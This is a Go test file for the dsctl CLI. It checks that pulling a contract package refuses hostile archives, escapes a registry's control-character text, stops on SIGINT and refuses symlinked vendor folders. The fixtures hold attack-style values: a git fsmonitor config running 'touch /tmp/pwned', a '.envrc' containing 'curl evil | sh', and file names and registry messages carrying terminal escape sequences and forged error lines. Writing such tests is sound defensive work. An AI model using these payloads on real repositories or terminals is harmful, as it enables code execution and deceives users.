package cli_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dsctl/dsctl/contracts/registry"
)

// entry is one tar entry of a hand-made package archive.
type entry struct {
	name string
	typ  byte
	body string
}

// handArchive writes a gzipped tar of entries, in the order given, the way an
// attacker would: no checks.
func handArchive(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var raw bytes.Buffer
	tw := tar.NewWriter(&raw)
	var patch []int // offsets of headers whose name's last byte becomes '/'
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		name, format := e.name, tar.FormatPAX
		if typ == tar.TypeReg && strings.HasSuffix(name, "/") {
			// Go's writer refuses a file named "x/"; write "x_" and patch it.
			name, format = strings.TrimSuffix(name, "/")+"_", tar.FormatUSTAR
			tw.Flush()
			patch = append(patch, raw.Len())
		}
		hdr := &tar.Header{Name: name, Typeflag: typ, Mode: 0o644, Format: format}
		if typ == tar.TypeReg {
			hdr.Size = int64(len(e.body))
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			tw.Write([]byte(e.body))
		}
	}
	tw.Close()
	b := raw.Bytes()
	for _, off := range patch {
		h := b[off : off+512]
		h[bytes.IndexByte(h[:100], 0)-1] = '/'
		copy(h[148:156], "        ")
		sum := 0
		for _, c := range h {
			sum += int(c)
		}
		copy(h[148:156], fmt.Sprintf("%06o\x00 ", sum))
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}

// pushRaw publishes archive as name@version into the layout store dir,
// bypassing every check publish makes (as a hostile registry would serve it).
func pushRaw(t *testing.T, dir, name, version string, archive []byte) {
	t.Helper()
	st, err := registry.Open(dir, registry.Options{})
	if err != nil {
		t.Fatal(err)
	}
	cfg := []byte(`{"name":"` + name + `","version":"` + version + `"}`)
	if _, err := st.Push(context.Background(), registry.Package{Name: name, Version: version, Archive: archive, Config: cfg}); err != nil {
		t.Fatal(err)
	}
}

const okContractYAML = "apiVersion: dsctl.dev/v1\nname: evil\nversion: 1.0.0\n"

// TestPullRefusesWhatPackNeverWrites: issue 13 items 1 and 12. A pulled
// archive is accepted only if Pack could have written it; anything else is an
// input error (exit 2) naming the entry, and nothing is written: no vendor
// folder, no lock. Each case was accepted (and unpacked) before.
func TestPullRefusesWhatPackNeverWrites(t *testing.T) {
	cy := entry{name: "contract.yaml", body: okContractYAML}
	cases := []struct {
		name    string
		entries []entry
		want    string // in stderr
	}{
		{"git-fsmonitor", []entry{{name: ".git/config", body: "[core]\n\tfsmonitor = \"touch /tmp/pwned\"\n"}, cy}, `".git/config"`},
		{"hidden-nested", []entry{cy, {name: "events/.hooks/post-checkout", body: "x"}}, `"events/.hooks/post-checkout"`},
		{"dotfile", []entry{{name: ".envrc", body: "curl evil | sh"}, cy}, `".envrc"`},
		{"no-contract-yaml", []entry{{name: "events/a.json", body: "{}"}}, "no contract.yaml"},
		{"file-named-folder", []entry{cy, {name: "events/", body: "x"}}, `"events/"`},
		{"folder-entry", []entry{cy, {name: "events", typ: tar.TypeDir}}, `"events"`},
		{"escape-in-name", []entry{cy, {name: "a\x1b]0;pwned\x07.json", body: "{}"}}, `"a\x1b]0;pwned\a.json"`},
		{"newline-in-name", []entry{cy, {name: "a\nerror: fake.json", body: "{}"}}, `"a\nerror: fake.json"`},
		{"out-of-order", []entry{cy, {name: "b.json", body: "{}"}, {name: "a.json", body: "{}"}}, "out of order"},
		{"invalid-utf8", []entry{cy, {name: "a\xff.json", body: "{}"}}, "UTF-8"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			work := t.TempDir()
			store := filepath.Join(work, "store")
			pushRaw(t, store, "evil", "1.0.0", handArchive(t, c.entries...))
			code, out := dsctlIn(t, work, "contract", "pull", "evil@1.0.0", "--registry", store)
			if code != 2 {
				t.Errorf("exit %d, want 2\n%s", code, out)
			}
			if !strings.HasPrefix(out, "error: ") || !strings.Contains(out, c.want) {
				t.Errorf("output does not name the entry (%s):\n%s", c.want, out)
			}
			if strings.ContainsAny(out, "\x1b\x07") || strings.Count(strings.TrimSpace(out), "\n") > 1 {
				t.Errorf("output carries control characters or extra lines:\n%q", out)
			}
			for _, p := range []string{"contracts/vendor/evil", "dsctl.lock"} {
				if _, err := os.Stat(filepath.Join(work, p)); err == nil {
					t.Errorf("%s was written", p)
				}
			}
		})
	}
}

// TestRegistryTextIsEscaped: issue 13 item 11. A registry's error text with
// ESC/OSC sequences, a bell and a fake "error:" line reaches the terminal
// escaped: no control character, no extra line.
func TestRegistryTextIsEscaped(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprint(w, `{"errors":[{"code":"DENIED","message":"\u001b]0;pwned\u0007\u001b[2J\rok\nerror: fake line\u009b31m\u202egnp.exe"}]}`)
	}))
	defer srv.Close()
	work := t.TempDir()
	ref := "oci://" + strings.TrimPrefix(srv.URL, "http://") + "/x"
	for _, args := range [][]string{
		{"registry", "ping", ref, "--plain-http", "--retries", "-1"},
		{"contract", "pull", "orders@1.0.0", "--registry", ref, "--plain-http", "--retries", "-1"},
		{"contract", "list", "orders", "--registry", ref, "--plain-http", "--retries", "-1"},
	} {
		code, out := dsctlIn(t, work, args...)
		if code == 0 {
			t.Errorf("%v: exit 0\n%s", args, out)
		}
		if strings.ContainsAny(out, "\x1b\x07\r\u009b\u202e") {
			t.Errorf("%v: raw control characters reach the terminal:\n%q", args, out)
		}
		if strings.Contains(out, "\nerror: fake line") {
			t.Errorf("%v: the registry's text forged a line:\n%s", args, out)
		}
		if !strings.Contains(out, `\x1b]0;pwned\x07`) {
			t.Errorf("%v: the escaped text is not shown:\n%s", args, out)
		}
	}
}

// TestInterruptEndsCPUBoundWork: issue 13 item 6. SIGINT ends a command
// within a second even when its work is CPU-bound and never looks at its
// context (here: validating a 200,000-item example against a schema that
// costs about 2,000 evaluations per item, minutes of work), with exit 3 and
// nothing half-written.
func TestInterruptEndsCPUBoundWork(t *testing.T) {
	work := t.TempDir()
	pkg := filepath.Join(work, "pkg")
	os.MkdirAll(filepath.Join(pkg, "events"), 0o755)
	var defs strings.Builder
	const n = 10
	for i := range n {
		fmt.Fprintf(&defs, `"d%d": {"allOf": [{"$ref": "#/$defs/d%d"}, {"$ref": "#/$defs/d%d"}]}, `, i, i+1, i+1)
	}
	fmt.Fprintf(&defs, `"d%d": {"type": "object"}`, n)
	schema := `{"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "array", "items": {"$ref": "#/$defs/d0"}, "$defs": {` + defs.String() + `}}`
	os.WriteFile(filepath.Join(pkg, "events", "many.json"), []byte(schema), 0o644)
	os.WriteFile(filepath.Join(pkg, "contract.yaml"), []byte("apiVersion: dsctl.dev/v1\nname: many\nversion: 1.0.0\nevents:\n  - name: ManyHappened\n    schema: events/many.json\n"), 0o644)
	big := "[" + strings.Repeat("{},", 200_000) + "{}]"
	os.WriteFile(filepath.Join(work, "big.json"), []byte(big), 0o644)

	cmd := exec.Command("dsctl", "contract", "validate", "pkg", "ManyHappened", "big.json")
	cmd.Dir = work
	cmd.Env = append(os.Environ(), "NO_COLOR=1", "DSCTL_CONFIG=")
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait() }()
	select {
	case err := <-exited:
		t.Fatalf("finished before the interrupt (%v): the workload is too small\n%s", err, out.String())
	case <-time.After(3 * time.Second):
	}
	cmd.Process.Signal(os.Interrupt)
	sent := time.Now()
	select {
	case <-exited:
	case <-time.After(5 * time.Second):
		cmd.Process.Kill()
		<-exited
		t.Fatalf("still running 5s after SIGINT\n%s", out.String())
	}
	if d := time.Since(sent); d > 1500*time.Millisecond {
		t.Errorf("took %s to stop after SIGINT", d)
	}
	if code := cmd.ProcessState.ExitCode(); code != 3 || !strings.Contains(out.String(), "interrupted") {
		t.Errorf("exit %d, want 3 with 'interrupted'\n%s", code, out.String())
	}
}

// TestPullRefusesSymlinkedVendorFolder: issue 13 item 7 for the vendor
// folder. A vendor folder (or a package folder in it) that a repository
// commits as a symbolic link is refused (exit 2) and nothing is written where
// it points.
func TestPullRefusesSymlinkedVendorFolder(t *testing.T) {
	for _, link := range []string{"contracts/vendor", "contracts/vendor/evil"} {
		t.Run(link, func(t *testing.T) {
			work := t.TempDir()
			outside := t.TempDir()
			store := filepath.Join(work, "store")
			pushRaw(t, store, "evil", "1.0.0", handArchive(t, entry{name: "contract.yaml", body: okContractYAML}))
			os.MkdirAll(filepath.Join(work, filepath.Dir(link)), 0o755)
			if err := os.Symlink(outside, filepath.Join(work, link)); err != nil {
				t.Skip(err)
			}
			code, out := dsctlIn(t, work, "contract", "pull", "evil@1.0.0", "--registry", store)
			if code != 2 || !strings.Contains(out, "symbolic link") {
				t.Errorf("exit %d, want 2 naming the link\n%s", code, out)
			}
			if ents, _ := os.ReadDir(outside); len(ents) > 0 {
				t.Errorf("pull wrote through the link: %v", ents)
			}
		})
	}
}
